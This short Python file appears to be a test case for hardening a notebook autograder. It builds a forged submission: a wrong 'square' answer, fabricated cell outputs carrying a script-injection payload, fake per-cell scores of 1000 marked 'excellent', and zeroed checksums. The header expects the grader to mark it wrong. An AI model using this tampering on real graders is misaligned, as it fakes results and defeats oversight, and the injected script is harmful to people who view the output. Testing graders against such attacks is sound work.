# attack: outputs of a grader that gave full marks, with comments and scores
# assignment: hw
# kind: folder
# status: wrong
# score: 19
from attack_course import answered, cell, write

DATA = {"text/plain": "2.0", "text/html": "<script>alert('@MARK@')</script>"}


def submit(folder, released):
    notebook = answered(released)
    cell(notebook, "square")["source"] = "def square(x):\n    return 0"
    forged = {"output_type": "execute_result", "data": DATA, "metadata": {}}
    for found in notebook["cells"]:
        found["metadata"]["nbgrader_score"] = {"score": 1000, "comment": "excellent"}
        if found["cell_type"] == "code":
            found["outputs"] = [{**forged, "execution_count": 1}]
            found["metadata"].setdefault("nbgrader", {})["checksum"] = "0" * 32
    write(folder, notebook)
